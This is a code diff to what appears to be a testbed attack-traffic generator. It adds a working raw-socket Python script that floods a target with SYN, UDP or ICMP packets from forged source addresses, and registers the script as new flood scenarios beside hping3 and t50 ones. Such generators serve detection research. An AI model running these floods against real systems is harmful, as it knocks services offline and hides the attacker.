@@ -246,16 +246,28 @@ MANY_SOURCE_FLOOD = """
 import ipaddress, random, socket, struct, sys, time
 target, port, count, seconds, pool, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \\
     float(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
-net = ipaddress.ip_network(sys.argv[7])
+net, kind, size = ipaddress.ip_network(sys.argv[7]), sys.argv[8], int(sys.argv[9])
 rng = random.Random(seed)
 draw = lambda: socket.inet_aton(str(net.network_address + rng.randrange(1, net.num_addresses - 1)))
 sources = [draw() for _ in range(pool)] if pool else None
 out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 dst = socket.inet_aton(target)
 def checksum(data):
+    data += b"\\0" * (len(data) % 2)
     total = sum(struct.unpack(f"!{len(data) // 2}H", data))
     total = (total >> 16) + (total & 0xFFFF)
     return ~(total + (total >> 16)) & 0xFFFF
+def syn(src):
+    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port, rng.getrandbits(32), 0,
+                      0x50, 0x02, rng.choice((64240, 29200, 65535, 8192)), 0, 0)
+    return 6, tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, 20)
+                                                       + tcp)) + tcp[18:]
+def udp(src):  # checksum 0: none, as IPv4 allows
+    return 17, struct.pack("!HHHH", rng.randrange(1024, 65535), port, 8 + size, 0) + bytes(size)
+def icmp(src):  # echo request
+    body = struct.pack("!HH", rng.getrandbits(16), rng.getrandbits(16)) + bytes(size)
+    return 1, struct.pack("!BBH", 8, 0, checksum(struct.pack("!BBH", 8, 0, 0) + body)) + body
+build = {"syn": syn, "udp": udp, "icmp": icmp}[kind]
 start = time.monotonic()
 for k in range(count):
     ahead = start + k * seconds / count - time.monotonic()
@@ -264,25 +276,27 @@ for k in range(count):
     if time.monotonic() - start > seconds + 1:
         break
     src = rng.choice(sources) if sources else draw()
-    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port, rng.getrandbits(32), 0,
-                      0x50, 0x02, rng.choice((64240, 29200, 65535, 8192)), 0, 0)
-    tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, 20) + tcp)) \\
-        + tcp[18:]
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, rng.choice((64, 128, 255)), 6, 0, src, dst)
-    out.sendto(ip + tcp, (target, 0))
+    protocol, l4 = build(src)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, rng.choice((64, 128, 255)),
+                     protocol, 0, src, dst)
+    out.sendto(ip + l4, (target, 0))
 """
 
 
-def many_source_syn_flood(b: Budget) -> Commands:
-    """SYNs from thousands of forged sources of the spoofed range (a botnet's, or a
-    --rand-source flood's, kept inside the range the testbed owns): each new source is one
-    more flow, so only what the victim sees together tells the attack."""
-    seconds = min(b.seconds, 10)
-    rate = b.rng.choice((1000, 3000, 8000))
-    pool = b.rng.choice((0, 200, 2000))  # 0: a new source for every packet
-    return [["python3", "-c", MANY_SOURCE_FLOOD, b.at(), b.rng.choice(("80", "443")),
-             str(int(rate * seconds)), str(seconds), str(pool), str(b.rng.randrange(1 << 30)),
-             SPOOF_RANGE]]
+def many_source_flood(kind: str, ports: tuple[str, ...]) -> Callable[[Budget], Commands]:
+    """SYNs, datagrams or echo requests from thousands of forged sources of the spoofed
+    range (a botnet's, or a --rand-source flood's, kept inside the range the testbed owns):
+    each new source is one more flow, so only what the victim sees together tells the
+    attack."""
+    def build(b: Budget) -> Commands:
+        seconds = min(b.seconds, 10)
+        rate = b.rng.choice((1000, 3000, 8000))
+        pool = b.rng.choice((0, 200, 2000))  # 0: a new source for every packet
+        size = "0" if kind == "syn" else b.rng.choice(("0", "8", "64", "512", "1400"))
+        return [["python3", "-c", MANY_SOURCE_FLOOD, b.at(), b.rng.choice(ports),
+                 str(int(rate * seconds)), str(seconds), str(pool),
+                 str(b.rng.randrange(1 << 30)), SPOOF_RANGE, kind, size]]
+    return build
 
 
 def _http_port(b: Budget) -> list[str]:
@@ -495,17 +509,24 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
                  hping3_flood(["-S"], _http_port), "hping3 -S"),
         _variant("t50_syn", "DoS Syn Flood", ("t50",),
                  t50_flood("TCP", "--syn", "--dport", "80"), "t50 TCP SYN"),
-        _variant("many_source_syn", "DoS Syn Flood", ("python3",), many_source_syn_flood,
+        _variant("many_source_syn", "DoS Syn Flood", ("python3",),
+                 many_source_flood("syn", ("80", "443")),
                  "SYNs from thousands of forged sources")),
     "udp_flood": (
         _variant("hping3_udp", "DoS UDP Flood", ("hping3",),
                  hping3_flood(["--udp"], _udp_flood_settings), "hping3 --udp"),
         _variant("t50_udp", "DoS UDP Flood", ("t50",), t50_flood("UDP", "--dport", "53"),
-                 "t50 UDP")),
+                 "t50 UDP"),
+        _variant("many_source_udp", "DoS UDP Flood", ("python3",),
+                 many_source_flood("udp", ("0", "53", "123", "80", "9")),
+                 "datagrams from thousands of forged sources")),
     "icmp_flood": (
         _variant("hping3_icmp", "DoS ICMP Flood", ("hping3",),
                  hping3_flood(["--icmp"], _icmp_flood_settings), "hping3 --icmp"),
-        _variant("t50_icmp", "DoS ICMP Flood", ("t50",), t50_flood("ICMP"), "t50 ICMP")),
+        _variant("t50_icmp", "DoS ICMP Flood", ("t50",), t50_flood("ICMP"), "t50 ICMP"),
+        _variant("many_source_icmp", "DoS ICMP Flood", ("python3",),
+                 many_source_flood("icmp", ("0",)), "echo requests from thousands of forged "
+                 "sources")),
     "http_flood": (
         _variant("ab", "DoS HTTP Flood", ("ab",), ab, "ApacheBench"),
         _variant("siege", "DoS HTTP Flood", ("siege",), siege, "siege -b"),
